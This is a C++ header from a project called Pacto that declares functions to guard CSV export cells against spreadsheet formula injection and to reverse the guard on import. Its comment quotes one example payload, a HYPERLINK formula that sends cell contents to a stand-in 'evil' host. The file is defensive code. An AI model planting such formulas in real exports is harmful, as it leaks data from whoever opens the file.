// Spreadsheet formula injection in the CSV files Pacto writes, and how they are read
// back.
//
// A spreadsheet opening a CSV file runs a cell that begins with '=', '+', '-' or '@' as
// a formula (and some treat a leading TAB or CR the same way), so a member named
// `=HYPERLINK("http://evil/?"&A1,"click")` would run on the operator's machine when
// they open an export. Names come from enrollers, so every cell Pacto writes is
// neutralised the OWASP way: a single quote is put in front of such a cell (the
// spreadsheet then shows it as text, and the quote is not part of the shown value),
// and the cell is quoted (csv_writer.h).
//
// Round trip. `member import` reads Pacto's own exports back to exactly the values
// exported, so the reader must tell a neutralising quote from a quote that is part of
// the value. The rule, applied to every cell:
//   - writing: a value that begins with a trigger ('=', '+', '-', '@', TAB, CR) or
//     with a single quote gets one more single quote in front. A plain number
//     ("-12", "+3.5": a sign, digits, at most one '.' followed by digits) is left
//     alone: a spreadsheet reads it as the number it is, and numeric report columns
//     stay numeric.
//   - reading: a cell that begins with a single quote followed by a trigger or by
//     another single quote loses exactly that first quote; any other cell is kept
//     as it is.
// So "=1+1" is written '=1+1 and read back =1+1; "'=1+1" is written ''=1+1 and read back
// '=1+1; "'abc" is written ''abc and read back 'abc; "it's" and "-5" are unchanged both
// ways. A hand-written file that means a literal leading quote before a trigger must
// double it, as an export does.
//
// Pure functions; thread-safe.
#ifndef PACTO_CLIENT_CSV_FORMULA_CELLS_H_
#define PACTO_CLIENT_CSV_FORMULA_CELLS_H_

#include <string>

#include "absl/strings/string_view.h"

namespace pacto {

// True when `value` must be written with a neutralising quote in front.
bool NeedsFormulaGuard(absl::string_view value);

// `value` with the neutralising quote in front when it needs one, else unchanged.
std::string GuardFormulaCell(absl::string_view value);

// The value a cell read from a CSV file stands for: the inverse of GuardFormulaCell.
std::string UnguardFormulaCell(absl::string_view cell);

}  // namespace pacto

#endif  // PACTO_CLIENT_CSV_FORMULA_CELLS_H_
